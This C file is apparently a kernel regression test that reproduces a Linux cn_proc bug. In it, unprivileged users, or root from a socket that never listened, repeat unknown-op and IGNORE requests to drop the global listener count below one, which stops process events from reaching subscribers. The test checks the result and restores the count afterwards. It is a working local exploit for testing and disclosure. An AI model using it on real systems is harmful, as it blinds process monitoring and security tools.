// SPDX-License-Identifier: GPL-2.0
/*
 * cn_proc keeps one global count of listeners (proc_event_num_listeners)
 * and makes no event at all while it is below 1. Two ways to take it
 * there while a listener still listens:
 *
 * A. 6.6 and later, any user: cn_proc_mcast_ctl() stores the op of every
 *    request in the socket's proc_input before it knows the op is valid.
 *    After an unknown op (7) the socket's previous op is neither LISTEN
 *    nor IGNORE, so its next IGNORE decrements the count again: N rounds
 *    of {7, IGNORE} from one socket take N off the count. No capability
 *    is checked since bfdfdc2f3b70 ("connector/cn_proc: Allow non-root
 *    users access").
 * B. 6.1 (before 2aa1f7a1f47c "connector/cn_proc: Add filtering to fix
 *    some bugs"), CAP_NET_ADMIN: an IGNORE from a socket that never
 *    listened decrements the count.
 *
 * Run as root. A listener joins group 1 and sends LISTEN; each step is
 * followed by a fork whose event the listener must get within 2 s. Step A
 * runs as uid 65534; step B as root. The count is given back after each
 * step that took it. Exit 1 if a step silenced the listener, else 0.
 *
 * gcc -static -O2 -o cn-proc-silence-listeners cn-proc-silence-listeners.c
 */
#include <errno.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>

#define ROUNDS 3
#define OP_UNKNOWN 7

static int dial(unsigned int groups)
{
	struct sockaddr_nl sa = { .nl_family = AF_NETLINK, .nl_groups = groups };
	int fd = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_CONNECTOR);

	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("connector socket");
		exit(2);
	}
	return fd;
}

/* send_op sends a 4-byte cn_proc op to the kernel, with ack = seq. */
static void send_op(int fd, unsigned int op, unsigned int seq)
{
	char buf[NLMSG_SPACE(sizeof(struct cn_msg) + sizeof(op))] = { 0 };
	struct nlmsghdr *nlh = (struct nlmsghdr *)buf;
	struct cn_msg *msg = NLMSG_DATA(nlh);
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };

	nlh->nlmsg_len = NLMSG_LENGTH(sizeof(*msg) + sizeof(op));
	nlh->nlmsg_type = NLMSG_DONE;
	msg->id.idx = CN_IDX_PROC;
	msg->id.val = CN_VAL_PROC;
	msg->seq = seq;
	msg->ack = seq;
	msg->len = sizeof(op);
	memcpy(msg->data, &op, sizeof(op));
	if (sendto(fd, buf, nlh->nlmsg_len, 0, (struct sockaddr *)&kernel,
		   sizeof(kernel)) < 0) {
		perror("send op");
		exit(2);
	}
}

/*
 * wait_event reads fd for up to ms milliseconds and returns 1 once an
 * event of type what about pid arrives (for an ack: pid is the ack and
 * *err gets its error), else 0.
 */
static int wait_event(int fd, unsigned int what, int pid, int ms, int *err)
{
	char buf[4096];

	for (;;) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		struct nlmsghdr *nlh = (struct nlmsghdr *)buf;
		struct cn_msg *msg;
		struct proc_event *ev;
		ssize_t n;

		if (poll(&p, 1, ms) <= 0)
			return 0;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n < (ssize_t)NLMSG_LENGTH(sizeof(*msg) + sizeof(*ev)))
			continue;
		msg = NLMSG_DATA(nlh);
		ev = (struct proc_event *)msg->data;
		if (ev->what != what)
			continue;
		if (what == PROC_EVENT_NONE && msg->ack == (unsigned int)pid + 1) {
			if (err)
				*err = ev->event_data.ack.err;
			return 1;
		}
		if (what == PROC_EVENT_FORK && ev->event_data.fork.child_tgid == pid)
			return 1;
	}
}

/* events_flow forks a child and reports whether l got its fork event. */
static int events_flow(int l)
{
	int pid = fork(), got;

	if (pid == 0)
		_exit(0);
	got = wait_event(l, PROC_EVENT_FORK, pid, 2000, NULL);
	waitpid(pid, NULL, 0);
	return got;
}

/* as_nobody runs ops[] from one socket as uid 65534, in a child. */
static void as_nobody(const unsigned int *ops, int n)
{
	int pid = fork(), i, fd;

	if (pid == 0) {
		if (setgroups(0, NULL) || setgid(65534) || setuid(65534)) {
			perror("drop to uid 65534");
			_exit(2);
		}
		fd = dial(0);
		for (i = 0; i < n; i++)
			send_op(fd, ops[i], 0x1000 + i);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

int main(void)
{
	unsigned int a[2 * ROUNDS], back[2 * ROUNDS];
	int l, stray, err = -1, silenced = 0, i;

	l = dial(1 << (CN_IDX_PROC - 1));
	send_op(l, PROC_CN_MCAST_LISTEN, 1);
	if (!wait_event(l, PROC_EVENT_NONE, 1, 2000, &err) || err) {
		printf("the listener's LISTEN got no ack (err %d): no cn_proc here?\n", err);
		return 2;
	}
	if (!events_flow(l)) {
		printf("no fork event reached the listener before any step\n");
		return 2;
	}
	printf("listener subscribed; a fork's event reaches it\n");

	/* A: {unknown op, IGNORE} x ROUNDS as uid 65534. */
	for (i = 0; i < ROUNDS; i++) {
		a[2 * i] = OP_UNKNOWN;
		a[2 * i + 1] = PROC_CN_MCAST_IGNORE;
		back[2 * i] = PROC_CN_MCAST_LISTEN;
		back[2 * i + 1] = OP_UNKNOWN;
	}
	as_nobody(a, 2 * ROUNDS);
	err = -1;
	wait_event(l, PROC_EVENT_NONE, 0x1000, 200, &err);
	printf("A: uid 65534 sent %d x {op %d, IGNORE} from a socket that never listened (ack of the first: %s)\n",
	       ROUNDS, OP_UNKNOWN, err < 0 ? "none" : strerror(err));
	if (events_flow(l)) {
		printf("A: events still reach the listener\n");
	} else {
		silenced = 1;
		printf("A: BUG: no event reaches the listener: an unprivileged user took the listener count below 1\n");
		/* {LISTEN, unknown op} x ROUNDS gives it back. */
		as_nobody(back, 2 * ROUNDS);
		printf("A: count given back: events %s\n",
		       events_flow(l) ? "flow again" : "still do not flow");
	}

	/* B: IGNORE as root from a socket that never listened. */
	stray = dial(0);
	send_op(stray, PROC_CN_MCAST_IGNORE, 0x2000);
	if (events_flow(l)) {
		printf("B: events still reach the listener after root's stray IGNORE\n");
	} else {
		silenced = 1;
		printf("B: BUG: a stray IGNORE from a socket that never listened silenced the listener\n");
		send_op(stray, PROC_CN_MCAST_LISTEN, 0x2001);
	}
	close(stray);
	send_op(l, PROC_CN_MCAST_IGNORE, 2);
	return silenced;
}
